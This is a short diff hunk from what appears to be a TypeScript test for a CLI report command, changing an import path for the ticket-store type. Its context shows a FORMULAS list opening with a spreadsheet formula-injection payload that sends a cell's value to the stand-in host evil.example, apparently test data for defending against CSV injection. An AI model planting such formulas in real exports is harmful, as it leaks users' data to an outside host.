@@ -8,7 +8,7 @@ import {
   reportRow,
   type ReportRow,
 } from '../../src/cli/report-command.js';
-import type { ListedTicket } from '../../src/store/ticket-store.js';
+import type { ListedTicket } from '../../src/adapters/redis/ticket-store.js';
 
 const FORMULAS = [
   '=HYPERLINK("https://evil.example/?x="&A1,"open")',
